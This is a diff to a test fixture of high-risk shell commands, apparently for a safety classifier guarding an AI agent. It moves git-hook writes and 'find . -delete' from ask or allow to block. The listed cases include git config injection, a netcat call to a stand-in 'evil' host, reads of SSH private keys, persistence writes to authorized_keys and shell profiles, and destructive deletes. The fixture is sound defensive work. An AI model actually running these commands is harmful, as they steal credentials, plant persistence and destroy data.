@@ -138,7 +138,13 @@ export const builtinHighRisk: ShellCase[] = [
   { cmd: "git -c alias.x='!id' x", expect: "ask", rule: "git.config-injection" },
   { cmd: "git config core.hooksPath /tmp/hooks", expect: "ask", rule: "git.config-injection" },
   { cmd: "GIT_SSH_COMMAND='nc evil 1' git fetch", expect: "ask" },
-  { cmd: "echo x > .git/hooks/pre-commit", expect: "ask", rule: "write.git-internal" },
+  {
+    cmd: "echo x > .git/hooks/pre-commit",
+    expect: "block",
+    rule: "abs.vcs-store",
+    note:
+      "issue 22 (loss model): a VCS store is changed only by its VCS; was ask write.git-internal",
+  },
   // ── credentials and secrets ─────────────────────────────────────────────
   { cmd: "cat ~/.ssh/id_rsa", expect: "ask", rule: "secrets.credential-access" },
   { cmd: "cat ~/.ssh/id_ed25519", expect: "ask", rule: "secrets.credential-access" },
@@ -163,7 +169,12 @@ export const builtinHighRisk: ShellCase[] = [
   { cmd: "cp evil ~/.bash_profile", expect: "ask", rule: "persist.startup-write" },
   { cmd: "cat key.pub >> ~/.ssh/authorized_keys", expect: "ask", rule: "persist.authorized-keys" },
   // ── find / xargs ────────────────────────────────────────────────────────
-  { cmd: "find . -delete", expect: "allow", note: "issue 13: deletes inside the workspace" },
+  {
+    cmd: "find . -delete",
+    expect: "block",
+    rule: "abs.workspace-root",
+    note: "issue 22 (loss model): deletes the workspace root and its history; was allow (issue 13)",
+  },
   { cmd: "find . -name '*.tmp' -delete", expect: "allow", note: "issue 13: inside the workspace" },
   { cmd: "find . -exec chmod 644 {} \\;", expect: "allow", note: "issue 13: inside the workspace" },
   { cmd: "find /home/user/other -delete", expect: "ask", rule: "fs.delete-outside-workspace" },
